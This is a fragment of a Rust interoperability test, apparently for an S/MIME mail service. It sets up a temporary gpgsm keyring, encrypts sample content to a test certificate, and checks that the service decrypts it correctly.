    let mut scene = Scene::raise("").await;
    scene.issue("byggrsa", RSA, "/CN=Byggeri", "root", 400, &format!("subjectAltName=email:{BYGG}"));
    scene.configure(
        "[[own_certificate]]\nfor = \"bygg@sundby.example\"\ncertificate = \"byggrsa.pem\"\nkey = \"byggrsa.key\"\n",
    );
    scene.start();
    let home = scene.path("gnupg");
    fs::create_dir(&home).unwrap();
    fs::set_permissions(&home, fs::Permissions::from_mode(0o700)).unwrap();
    fs::write(home.join("gpgsm.conf"), "disable-crl-checks\ndisable-dirmngr\n").unwrap();
    let gpgsm = |arguments: &[&str]| {
        let mut command = Command::new("gpgsm");
        command.arg("--homedir").arg(&home).arg("--batch").args(arguments).stdin(Stdio::null());
        let ran = command.output().expect("PEER MISSING: gpgsm; tests/run installs it");
        assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
    };
    let (root, bygg) = (scene.path("root.pem"), scene.path("byggrsa.pem"));
    gpgsm(&["--import", root.to_str().unwrap()]);
    gpgsm(&["--import", bygg.to_str().unwrap()]);
    scene.openssl("x509 -in root.pem -noout -fingerprint -sha1 -out print");
    let print = fs::read_to_string(scene.path("print")).unwrap();
    let print = print.trim().rsplit('=').next().unwrap().to_owned();
    fs::write(home.join("trustlist.txt"), format!("{print} S relax\n")).unwrap();
    fs::write(scene.path("plain"), CONTENT).unwrap();
    let (plain, out) = (scene.path("plain"), scene.path("sealed"));
    gpgsm(&["--encrypt", "--recipient", BYGG, "--output", out.to_str().unwrap(), plain.to_str().unwrap()]);
    scene.hand(EVA, BYGG, "from gpgsm", &entity("enveloped-data", &fs::read(out).unwrap()));
    let got = scene.got("from gpgsm");
    assert_eq!(got.body, body_of(CONTENT));
    let _ = Command::new("gpgconf").arg("--homedir").arg(&home).args(["--kill", "all"]).output();
}
